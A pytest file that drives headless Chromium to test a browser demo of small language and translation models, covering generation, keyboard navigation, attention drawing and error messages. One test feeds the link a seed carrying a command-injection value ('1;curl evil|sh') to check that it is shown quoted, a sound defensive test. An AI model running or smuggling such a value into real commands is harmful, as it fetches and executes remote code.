"""The page in a headless browser: it writes, it shows what the network thinks, and it says what is wrong."""

import json
import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from rnn_edge.bundle import open_bundle
from rnn_edge.language_model import LanguageModel
from rnn_edge.web.site import make_single_file
from tests.device.tiny import edit_manifest, replace_file
from tests.web.chromium import Chromium
from tests.web.conftest import ROOT, Serve

Sites = Callable[[str], Path]
IDLE = "document.documentElement.dataset.ready && !document.querySelector('.is-running')"
TEXT = "document.querySelector('#text').textContent"


@pytest.fixture
def pictures(tmp_path: Path) -> Path:
    """Where screenshots go: $RNN_EDGE_SCREENSHOTS to look at them."""
    folder = Path(os.environ.get("RNN_EDGE_SCREENSHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture
def copy(sites: Sites, tmp_path: Path) -> Iterator[Callable[[str], Path]]:
    """A copy of a site, to be damaged."""

    def make(bundle: str) -> Path:
        return Path(shutil.copytree(sites(bundle), tmp_path / "copy"))

    yield make


def settle(page: Chromium, address: str) -> None:
    """Open, and wait for the text that the page begins with."""
    page.open(address)
    page.wait_for(IDLE)
    page.run("new Promise(requestAnimationFrame)")
    page.run("new Promise(requestAnimationFrame)")


@pytest.mark.parametrize(("width", "height", "dark"), [(1280, 900, False), (1280, 900, True), (390, 844, False)])
def test_it_writes_what_the_terminal_writes(
    browser: str, sites: Sites, serve: Serve, pictures: Path, width: int, height: int, dark: bool
) -> None:
    with Chromium(width, height, dark=dark) as page:
        address = serve(sites("models/shakespeare"))
        settle(page, f"{address}#prompt=JULIET%3A&seed=11")
        model = LanguageModel.load(ROOT / "models/shakespeare", device="cpu")
        expected = "JULIET:" + "".join(event.text for event in model.generate("JULIET:", seed=11, max_tokens=300))
        assert page.run(TEXT)[: len(expected)] == expected
        assert page.run("document.documentElement.scrollWidth") <= width  # nothing sticks out
        assert page.run("document.documentElement.dataset.theme") == ("dark" if dark else "light")
        assert "tokens/s" in page.run("document.querySelector('.rate').textContent")
        assert page.complaints() == []
        asked = [item for item in page.requests() if not item.startswith("data:")]
        assert f"{address}model/loop.onnx" in asked  # by the worker
        assert [item for item in asked if not item.startswith(address)] == []
        page.screenshot(pictures / f"writer-{width}-{'dark' if dark else 'light'}.png")


def test_the_keyboard_moves_through_text_and_units(browser: str, sites: Sites, serve: Serve) -> None:
    with Chromium() as page:
        settle(page, serve(sites("tests/data/lstm")) + "#prompt=The&seed=1")
        page.run("document.querySelector('#text').focus()")
        page.press("Home")
        for _ in range(3):
            page.press("ArrowRight")
        # The fourth token: what came after the prompt is chosen, and its bar is marked.
        assert page.run("document.querySelector('.is-selected').position") == 3
        chosen = page.run("document.querySelector('.bar.is-chosen .bar-name').textContent")
        assert chosen == page.run(f"{TEXT}[3]").replace(" ", "␣").replace("\n", "⏎")
        shares = page.run(
            "[...document.querySelectorAll('.bar:not(.is-hidden) .bar-share')].map((item) => item.textContent)"
        )
        assert len(shares) >= 10
        coloured = "document.querySelectorAll('.h1,.h2,.h3,.h4,.h5,.h6,.h7,.l1,.l2,.l3,.l4,.l5,.l6,.l7').length"
        assert page.run(coloured) == 0
        page.run("document.querySelector('.units-canvas').focus()")
        page.press("ArrowDown")
        assert page.run("document.querySelector('.unit-name').textContent").startswith("unit ")
        assert page.run(coloured) > 20
        page.press("Escape")
        assert page.run(coloured) == 0
        page.run("document.querySelector('#theme').click()")
        assert page.run("document.documentElement.dataset.theme") == "dark"


def test_stop_ends_a_text(browser: str, sites: Sites, serve: Serve) -> None:
    with Chromium() as page:
        settle(page, serve(sites("tests/data/lstm")))
        page.run("document.querySelector('#pace').value = '60'")
        page.run("document.querySelector('.primary').click()")
        count = "document.querySelectorAll('.token').length"
        page.wait_for(f"document.querySelector('.is-running') && 3 < {count} && {count} < 500")  # the new text
        page.run("document.querySelector('.primary').click()")
        page.wait_for(IDLE, 5)
        assert 3 < page.run(count) < 500
        page.run("document.querySelector('footer button').click()")
        assert page.wait_for("/^Yes/.exec(document.querySelector('.proof').textContent)?.input", 20).startswith(
            "Yes: 256 steps"
        )


def test_a_proof_and_a_text_do_not_wait_for_each_other(browser: str, sites: Sites, serve: Serve) -> None:
    """Whichever comes second is done, and the button can be pressed again."""
    proof = "document.querySelector('.proof').textContent"
    with Chromium() as page:
        settle(page, serve(sites("tests/data/lstm")))
        page.run("document.querySelector('#pace').value = '60'")
        page.run("document.querySelector('.primary').click()")
        page.wait_for("document.querySelectorAll('.is-running').length")
        page.run("document.querySelector('footer button').click()")
        page.wait_for(f"/^Yes/.test({proof})", 20)
        page.wait_for(IDLE, 5)
        page.run("document.querySelector('#pace').value = '0'")
        page.run("document.querySelector('footer button').click(); document.querySelector('.primary').click()")
        page.wait_for(f"{IDLE} && !{proof}.startsWith('replaying')", 20)
        assert page.run("document.querySelectorAll('.token').length") > 3


def test_a_seed_from_a_link_is_no_command(browser: str, sites: Sites, serve: Serve) -> None:
    with Chromium() as page:
        page.open(serve(sites("tests/data/lstm")) + "#prompt=A&seed=1;curl%20evil|sh")
        page.wait_for(IDLE)
        assert "--seed '1;curl evil|sh'" in page.run("document.body.textContent")


@pytest.mark.parametrize(("width", "dark"), [(1280, False), (390, True)])
def test_it_translates_and_draws_the_attention(
    browser: str, sites: Sites, serve: Serve, pictures: Path, width: int, dark: bool
) -> None:
    with Chromium(width, 900, dark=dark) as page:
        settle(page, serve(sites("models/en-fr")) + "#prompt=Where+is+the+house%3F")
        assert page.run(TEXT) == "Où est la maison ?"
        assert page.run("[...document.querySelectorAll('.target-words .word')].map((item) => item.textContent)") == [
            "Où", "est", "la", "maison", "?",
        ]  # fmt: skip
        page.wait_for("document.querySelectorAll('.attention-lines path').length >= 5", 5)
        assert page.run("document.documentElement.scrollWidth") <= width
        page.run("document.querySelectorAll('.target-words .word')[3].focus()")
        page.run("new Promise(requestAnimationFrame)")
        assert page.run("document.querySelector('.bar.is-chosen .bar-name').textContent") == "␣maison"
        lit = "document.querySelectorAll('.attention-lines .is-lit').length"
        assert page.run(lit) >= 1
        page.run("window.first = document.querySelector('.attention-lines path'), 1")
        metrics = {"height": 900, "deviceScaleFactor": 1, "mobile": width < 600}
        page.call("Emulation.setDeviceMetricsOverride", width=width - width // 4, **metrics)  # the lines are drawn anew
        page.wait_for("!document.contains(window.first)", 5)
        assert page.run(lit) >= 1
        # Tab reaches one word of the sentence, arrow keys the others.
        assert page.run("[...document.querySelectorAll('.word')].filter((item) => item.tabIndex === 0).length") == 1
        page.press("ArrowUp" if width < 600 else "ArrowLeft")
        assert page.run("document.activeElement.textContent") == "la"
        page.press("ArrowLeft" if width < 600 else "ArrowUp")
        assert page.run("document.activeElement.textContent") == "the"
        page.press("ArrowRight" if width < 600 else "ArrowDown")
        assert page.run("document.activeElement.textContent") == "la"
        assert page.complaints() == []
        page.screenshot(pictures / f"translator-{width}-{'dark' if dark else 'light'}.png")


@pytest.mark.parametrize("bundle", ["models/shakespeare", "tests/data/translator"])
def test_one_file_opens_without_a_server(browser: str, runtime: Path, tmp_path: Path, bundle: str) -> None:
    output = tmp_path / "page.html"
    make_single_file(open_bundle(ROOT / bundle), output, runtime=runtime, note=lambda _: None)
    with Chromium() as page:
        settle(page, f"{output.as_uri()}#prompt=To+be&seed=3")
        assert page.run(f"{TEXT}.length") > 0
        assert page.complaints() == []
        assert [item for item in page.requests() if not item.startswith(("file:", "blob:", "data:"))] == []


def test_what_is_wrong_is_named(browser: str, copy: Callable[[str], Path], serve: Serve) -> None:
    site = copy("tests/data/lstm")
    model = site / "model"
    address = serve(site)
    alert = "document.querySelector('#alert:not([hidden])')?.textContent"

    def complaint() -> str:
        with Chromium() as page:
            page.open(address)
            found: str = page.wait_for(alert, 20)
            assert page.run("document.querySelector('#status').textContent") == "cannot run here"
            return found

    tokenizer = json.loads((model / "tokenizer.json").read_text(encoding="utf-8"))
    tokenizer["model"]["type"] = "Unigram"
    good = {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
    replace_file(model, "tokenizer.json", json.dumps(tokenizer).encode())
    assert "the tokenizer's model is Unigram" in complaint()
    for path in (model / "tokenizer.json", model / "manifest.json"):
        path.write_bytes(good[path])

    graph = bytearray(good[model / "loop.onnx"])
    graph[-100] ^= 1
    (model / "loop.onnx").write_bytes(graph)
    assert "loop.onnx has changed: its SHA-256 is not the manifest's" in complaint()
    (model / "loop.onnx").write_bytes(graph[:-1])
    assert "truncated or changed" in complaint()
    (model / "loop.onnx").unlink()
    assert "loop.onnx cannot be loaded: the server answers 404" in complaint()
    (model / "loop.onnx").write_bytes(good[model / "loop.onnx"])

    edit_manifest(model, lambda manifest: manifest.update(format_version=2))
    assert "format version 2" in complaint()
    (model / "manifest.json").write_bytes(good[model / "manifest.json"])

    wasm = site / "runtime" / "ort-wasm-simd-threaded.wasm.gz"
    wasm.write_bytes(wasm.read_bytes()[:100_000])
    assert "ort-wasm-simd-threaded.wasm.gz is damaged" in complaint()
    wasm.write_bytes(good[wasm])

    worker = site / "worker.js"
    worker.write_text("WebAssembly.validate = () => false;\n" + worker.read_text(encoding="utf-8"), encoding="utf-8")
    assert "not its vector instructions (SIMD)" in complaint()


def test_what_the_model_has_never_seen_is_named(browser: str, sites: Sites, serve: Serve) -> None:
    with Chromium() as page:
        settle(page, serve(sites("models/shakespeare")))
        page.run("document.querySelector('#prompt').value = 'Ω 1'")
        page.run("document.querySelector('.primary').click()")
        found = page.wait_for("document.querySelector('#alert:not([hidden])')?.textContent", 10)
        assert found.startswith('the model has never seen "1" "Ω"')
        page.run("document.querySelector('#prompt').value = 'Well'")
        page.run("document.querySelector('.primary').click()")
        page.wait_for(f"{IDLE} && document.querySelector('#alert').hidden", 20)
